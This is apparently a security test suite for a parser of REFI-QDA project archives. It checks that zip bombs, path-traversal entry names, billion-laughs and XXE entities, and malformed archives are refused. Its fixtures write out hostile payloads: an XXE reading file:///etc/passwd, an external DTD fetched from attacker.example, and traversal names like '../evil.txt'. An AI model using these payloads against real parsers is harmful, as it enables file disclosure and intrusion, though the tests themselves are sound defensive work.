import { zipSync } from 'fflate';
import { describe, expect, test } from 'vitest';
import { readQdc, readQdpx, RefiError, writeQdpx, type RefiErrorCode } from './index.ts';
import { craftZip, text, zeroBomb } from './fixtures/craft.ts';
import { makeProject } from './fixtures/project.ts';

const MINIMAL_QDE = '<?xml version="1.0" encoding="utf-8"?><Project xmlns="urn:QDA-XML:project:1.0" name="p"/>';

async function failure(p: Promise<unknown> | (() => unknown)): Promise<RefiError> {
  try {
    await (typeof p === 'function' ? p() : p);
  } catch (e) {
    expect(e).toBeInstanceOf(RefiError);
    return e as RefiError;
  }
  throw new Error('expected a RefiError, but the input was accepted');
}

async function expectCode(p: Promise<unknown>, code: RefiErrorCode): Promise<RefiError> {
  const e = await failure(p);
  expect(e.code, e.message).toBe(code);
  expect(e.message.length).toBeGreaterThan(20);
  return e;
}

describe('zip bombs and size limits', () => {
  test('an honest bomb: 300 MB of zeros in a ~300 KB archive is refused from its declared size', async () => {
    const bomb = craftZip([
      { name: 'project.qde', data: text(MINIMAL_QDE) },
      { name: 'Sources/big.txt', data: zeroBomb(300), deflated: true, declaredSize: 300 * 1024 * 1024 },
    ]);
    expect(bomb.length).toBeLessThan(400_000);
    const t0 = Date.now();
    const e = await expectCode(readQdpx(bomb), 'too-large');
    expect(Date.now() - t0).toBeLessThan(1000); // refused before inflating anything
    expect(e.message).toMatch(/zip bomb/);
  });

  test('a lying bomb: declares 1 KB but inflates to 64 MB, aborted while inflating', async () => {
    const bomb = craftZip([{ name: 'project.qde', data: zeroBomb(64), deflated: true, declaredSize: 1024 }]);
    const e = await expectCode(readQdpx(bomb), 'too-large');
    expect(e.message).toContain('project.qde');
  });

  test('too many entries', async () => {
    const files: Record<string, Uint8Array> = { 'project.qde': text(MINIMAL_QDE) };
    for (let i = 0; i < 10_001; i++) files[`sources/${i}.txt`] = new Uint8Array(0);
    await expectCode(readQdpx(zipSync(files, { level: 0 })), 'too-large');
  });

  test('limits can be tightened: archive size and total size', async () => {
    const ok = writeQdpx(makeProject());
    await expectCode(readQdpx(ok, { limits: { maxArchiveBytes: 100 } }), 'too-large');
    await expectCode(readQdpx(ok, { limits: { maxTotalUncompressedBytes: 500 } }), 'too-large');
    await expect(readQdpx(ok)).resolves.toBeDefined();
  });
});

describe('path traversal in entry names', () => {
  for (const name of ['../evil.txt', '/etc/passwd', 'sources/../../evil.txt', '..\\evil.txt', 'C:\\Windows\\evil.txt', 'sources\\..\\..\\evil.txt']) {
    test(`refuses ${JSON.stringify(name)}`, async () => {
      const zip = craftZip([
        { name: 'project.qde', data: text(MINIMAL_QDE) },
        { name, data: text('gotcha') },
      ]);
      const e = await expectCode(readQdpx(zip), 'path-traversal');
      expect(e.message).toContain(name);
    });
  }
  test('a harmless backslash separator (old Windows zip tools) is accepted', async () => {
    const qde =
      '<Project xmlns="urn:QDA-XML:project:1.0" name="p"><Sources><TextSource guid="00000000-0000-4000-8000-000000000001" name="s" plainTextPath="internal://x.txt"/></Sources></Project>';
    const zip = craftZip([
      { name: 'project.qde', data: text(qde) },
      { name: 'Sources\\x.txt', data: text('hello') },
    ]);
    const r = await readQdpx(zip);
    expect(r.project.sources[0]?.text).toBe('hello');
  });
});

describe('XML entities', () => {
  const billionLaughs =
    '<?xml version="1.0"?>\n<!DOCTYPE Project [\n <!ENTITY lol "lol">\n' +
    Array.from({ length: 9 }, (_, i) => ` <!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('\n') +
    '\n]>\n<Project xmlns="urn:QDA-XML:project:1.0" name="&lol9;"/>';
  const xxe =
    '<?xml version="1.0"?>\n<!DOCTYPE Project [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<Project xmlns="urn:QDA-XML:project:1.0" name="&xxe;"/>';
  const paramEntity =
    '<?xml version="1.0"?><!DOCTYPE Project [<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;]><Project name="p"/>';

  test('billion laughs in project.qde', async () => {
    await expectCode(readQdpx(craftZip([{ name: 'project.qde', data: text(billionLaughs) }])), 'xml-entities');
  });
  test('external entity (SYSTEM "file:///etc/passwd")', async () => {
    const e = await expectCode(readQdpx(craftZip([{ name: 'project.qde', data: text(xxe) }])), 'xml-entities');
    expect(e.message).not.toContain('root:'); // nothing was read
  });
  test('external parameter entity', async () => {
    await expectCode(readQdpx(craftZip([{ name: 'project.qde', data: text(paramEntity) }])), 'xml-entities');
  });
  test('codebooks get the same protection', async () => {
    await expectCode(Promise.resolve().then(() => readQdc(billionLaughs.replace(/Project/g, 'CodeBook'))), 'xml-entities');
    await expectCode(Promise.resolve().then(() => readQdc(text(xxe))), 'xml-entities');
  });
  test('an undeclared entity reference is left as text, never expanded', async () => {
    const qde = '<Project xmlns="urn:QDA-XML:project:1.0" name="a &amp; &xxe; &#233;&#x1F600;"/>';
    const r = await readQdpx(craftZip([{ name: 'project.qde', data: text(qde) }]));
    expect(r.project.name).toBe('a & &xxe; é😀');
  });
});

describe('not a project at all', () => {
  test('garbage bytes', async () => {
    const garbage = Uint8Array.from({ length: 4096 }, (_, i) => (i * 7919) % 251);
    await expectCode(readQdpx(garbage), 'not-zip');
    await expectCode(readQdpx(new Uint8Array(0)), 'not-zip');
    await expectCode(readQdpx(text('%PDF-1.7 not a zip')), 'not-zip');
  });
  test('a truncated archive', async () => {
    const ok = writeQdpx(makeProject());
    await expectCode(readQdpx(ok.subarray(0, ok.length >> 1)), 'not-zip');
  });
  test('a zip without project.qde', async () => {
    const e = await expectCode(readQdpx(zipSync({ 'readme.txt': text('hi') })), 'missing-project');
    expect(e.message).toContain('project.qde');
  });
  test('project.qde that is not XML / not a REFI project', async () => {
    await expectCode(readQdpx(zipSync({ 'project.qde': text('<Project name="x"><Users></Project>') })), 'invalid-xml');
    await expectCode(readQdpx(zipSync({ 'project.qde': text('<html><body/></html>') })), 'not-refi');
  });
  test('encrypted entries', async () => {
    const zip = craftZip([{ name: 'project.qde', data: text(MINIMAL_QDE), flags: 1 }]);
    await expectCode(readQdpx(zip), 'unsupported-zip');
  });
  test('damaged compressed data', async () => {
    const zip = craftZip([{ name: 'project.qde', data: Uint8Array.of(0xff, 0xff, 0xff, 0xff), deflated: true, declaredSize: 100 }]);
    await expectCode(readQdpx(zip), 'corrupt-zip');
  });
});

describe('pathological XML', () => {
  test('absurdly deep nesting is refused without a stack overflow', async () => {
    const depth = 20_000;
    const qde = `<Project xmlns="urn:QDA-XML:project:1.0" name="p"><CodeBook><Codes>${'<Code guid="x" name="n" isCodable="true">'.repeat(depth)}${'</Code>'.repeat(depth)}</Codes></CodeBook></Project>`;
    await expectCode(readQdpx(zipSync({ 'project.qde': text(qde) })), 'invalid-xml');
  });
});
